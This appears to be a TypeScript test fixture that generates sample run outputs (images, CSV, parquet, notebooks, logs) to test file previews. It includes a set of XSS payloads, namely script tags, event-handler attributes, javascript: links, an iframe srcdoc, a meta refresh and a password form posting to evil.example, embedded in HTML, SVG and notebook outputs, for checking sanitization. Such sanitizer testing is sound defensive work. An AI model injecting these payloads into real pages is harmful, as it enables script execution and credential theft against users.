import { deflateSync } from 'node:zlib';
import { parquetWriteBuffer } from 'hyparquet-writer';

/** A PNG of one color. */
export function png(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crcOf(body));
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    return Buffer.concat([length, body, crc]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 6, 0, 0, 0], 8);
  const rows = Buffer.alloc((width * 4 + 1) * height);
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) {
      const inside = (x - width / 2) ** 2 + (y - height / 2) ** 2 < (Math.min(width, height) / 2.2) ** 2;
      rows.set(
        inside ? [(x * 255) / width, (y * 255) / height, 160, 255] : [0, 0, 0, 0],
        y * (width * 4 + 1) + 1 + x * 4,
      );
    }
  }
  const parts = [chunk('IHDR', header), chunk('IDAT', deflateSync(rows)), chunk('IEND', Buffer.alloc(0))];
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10]), ...parts]);
}

function crcOf(bytes: Uint8Array): number {
  let crc = ~0;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit++) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  return ~crc >>> 0;
}

/** What must not happen anywhere: requests to these hosts, and scripts. */
const script = 'globalThis.hacked = true; parent.hacked = true; top.hacked = true';
const hostileHtml = [
  `<script>${script}</script><img src="https://evil.example/a.png" onerror="${script}" onload="${script}">`,
  `<svg onload="${script}"><script>${script}</script><image href="https://evil.example/b.png"/></svg>`,
  `<iframe srcdoc="<script>${script}</script>"></iframe><object data="https://evil.example/c"></object>`,
  '<link rel="stylesheet" href="https://evil.example/d.css"><style>@import "https://evil.example/e.css"; body { display: none }</style>',
  '<meta http-equiv="refresh" content="0; url=https://evil.example/f"><base href="https://evil.example/">',
  `<a href="javascript:${script}">run</a> <a href="https://example.org/" onclick="${script}">safe link</a>`,
  '<form action="https://evil.example/g"><input name="password" autofocus><button>Send</button></form>',
  `<p style="background: url(https://evil.example/h.png)">styled</p><video src="https://evil.example/i.mp4" autoplay></video>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${script}"></style></mglyph></table></mtext></math>`,
  `<details open ontoggle="${script}"><summary>d</summary></details><div id="main" class="notice">clobber</div>`,
].join('\n');

const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100" onload="${script}">
  <script>${script}</script><image xlink:href="https://evil.example/svg.png" width="10" height="10"/>
  <rect width="200" height="100" fill="teal"/><circle cx="100" cy="50" r="40" fill="gold"/></svg>`;

const image = png(24, 16).toString('base64');

/** A notebook with what people have in theirs. */
const notebook = JSON.stringify({
  nbformat: 4,
  metadata: { kernelspec: { display_name: 'Python 3' }, language_info: { name: 'python' } },
  cells: [
    {
      cell_type: 'markdown',
      source:
        '# House prices\n\nA **baseline** with [docs](https://example.org/docs), and a table:\n\n| model | score |\n|---|---|\n| ridge | 0.12 |\n| forest | 0.14 |\n',
    },
    {
      cell_type: 'code',
      execution_count: 1,
      source: 'import pandas as pd\ndf = pd.read_csv("train.csv")\ndf.describe()',
      outputs: [
        {
          output_type: 'execute_result',
          data: {
            'text/html':
              '<table border="1" class="dataframe"><thead><tr><th></th><th>area</th><th>price</th></tr></thead><tbody><tr><th>mean</th><td>120.5</td><td>250000</td></tr><tr><th>max</th><td colspan="2" align="left">480.0</td></tr></tbody></table>',
            'text/plain': 'df',
          },
        },
        { output_type: 'stream', name: 'stdout', text: 'epoch 1: \u001b[32m0.93\u001b[0m\n10%\r50%\r100%\n' },
      ],
    },
    {
      cell_type: 'code',
      execution_count: 2,
      source: 'plt.plot(loss)',
      outputs: [
        {
          output_type: 'display_data',
          data: { 'image/png': png(320, 180).toString('base64'), 'text/plain': '<Figure>' },
        },
      ],
    },
    {
      cell_type: 'code',
      execution_count: 3,
      source: 'model.fit(x)',
      outputs: [
        {
          output_type: 'error',
          ename: 'ValueError',
          evalue: 'bad shape',
          traceback: ['\u001b[0;31m---------\u001b[0m', '\u001b[0;31mValueError\u001b[0m: bad shape'],
        },
      ],
    },
  ],
});

const hostileNotebook = JSON.stringify({
  nbformat: 4,
  cells: [
    { cell_type: 'markdown', source: `# Hostile\n\n${hostileHtml}\n\n![x](https://evil.example/md.png)` },
    {
      cell_type: 'code',
      source: hostileHtml,
      outputs: [
        { output_type: 'display_data', data: { 'text/html': hostileHtml, 'text/plain': 'x' } },
        { output_type: 'display_data', data: { 'image/svg+xml': svg } },
        { output_type: 'display_data', data: { 'image/png': image, 'text/plain': `"><script>${script}</script>` } },
        { output_type: 'stream', text: hostileHtml },
      ],
    },
  ],
});

const rows = 60_000;

/** Output files of a run, of all kinds that have a preview. */
export function outputFiles(): Record<string, string | Uint8Array> {
  const csv = Array.from(
    { length: rows },
    (_, id) =>
      `${id},"City ${id % 97}, north",${(id * 37) % 1000},${(Math.sin(id) * 50).toFixed(3)},2024-0${1 + (id % 9)}-15\n`,
  );
  const index = Array.from({ length: rows * 2 }, (_, id) => id);
  return {
    'submission.csv': `id,city,rooms,change,day\n${csv.join('')}`,
    'features.parquet': new Uint8Array(
      parquetWriteBuffer({
        columnData: [
          { name: 'id', data: index, type: 'INT32' },
          { name: 'price', data: index.map((id) => Math.cos(id) * 1e5), type: 'DOUBLE' },
          { name: 'street', data: index.map((id) => (id % 5 === 0 ? null : `Street ${id % 300}`)), type: 'STRING' },
          { name: 'sold', data: index.map((id) => new Date(1.6e12 + id * 6e7)), type: 'TIMESTAMP' },
        ],
        rowGroupSize: 10_000,
      }),
    ),
    'metrics.json': JSON.stringify({
      best: { epoch: 12, loss: 0.1234567890123456 },
      history: index.slice(0, 300).map((epoch) => ({ epoch, loss: 1 / (epoch + 1) })),
      note: '<b>ok</b>',
    }),
    'history.jsonl': index
      .slice(0, 500)
      .map((epoch) => JSON.stringify({ epoch, loss: 1 / (epoch + 1), lr: 0.01 }))
      .join('\n'),
    'analysis.ipynb': notebook,
    'plots/prediction.png': png(640, 360),
    'plots/logo.svg': svg,
    'train.log': Array.from(
      { length: 20_000 },
      (_, line) => `[${line}] step ${line * 10} of 200000, loss ${(1 / (line + 1)).toFixed(6)}\n`,
    ).join(''),
    'report.html': `<h1>Report</h1><script>${script}</script>`,
    'model.bin': Uint8Array.from({ length: 300_000 }, (_, at) => (at * 7919) % 256),
    'README.md': '# Results\n\nSee `plots/`.\n',
    'hostile.ipynb': hostileNotebook,
    'empty.txt': '',
    'broken.png': 'not an image',
  };
}
